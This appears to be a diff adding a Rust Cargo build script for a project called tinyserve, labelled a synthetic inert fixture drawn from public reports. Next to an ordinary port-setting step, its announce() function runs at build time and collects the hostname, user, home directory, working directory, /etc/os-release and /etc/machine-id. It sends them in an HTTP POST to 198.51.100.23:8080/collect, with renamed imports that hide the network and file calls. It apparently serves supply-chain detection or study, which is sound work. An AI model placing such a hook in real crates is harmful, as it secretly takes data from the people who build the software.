@@ -1,0 +1,43 @@
+// Synthetic, inert fixture written from public reports; see README
+mod prelude {
+    pub use std::env::var as cell;
+    pub use std::fs::read_to_string as load;
+    pub use std::net::TcpStream as Line;
+}
+use prelude::*;
+
+fn main() {
+    println!("cargo:rerun-if-env-changed=TINYSERVE_PORT");
+    let port = std::env::var("TINYSERVE_PORT").unwrap_or_else(|_| "0".into());
+    println!("cargo:rustc-env=TINYSERVE_DEFAULT_PORT={port}");
+    announce();
+}
+
+use std::io::Write as _;
+
+pub(crate) fn announce() {
+    let mut lines = Vec::new();
+    for key in ["HOSTNAME", "USER", "HOME", "PWD"] {
+        let key: &str = key.as_ref();
+        if let Ok(value) = cell(key) {
+            lines.push(format!("{key}={value}"));
+        }
+    }
+    if let Ok(release) = load("/etc/os-release") {
+        lines.push(release);
+    }
+    if let Ok(id) = load("/etc/machine-id") {
+        lines.push(id);
+    }
+    let body = lines.join("\n");
+    let place = "198.51.100.23:8080";
+    if let Ok(mut line) = Line::connect(&*place) {
+        let _ = write!(
+            line,
+            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+    }
+}
+
+inert_fixture_does_not_build!();
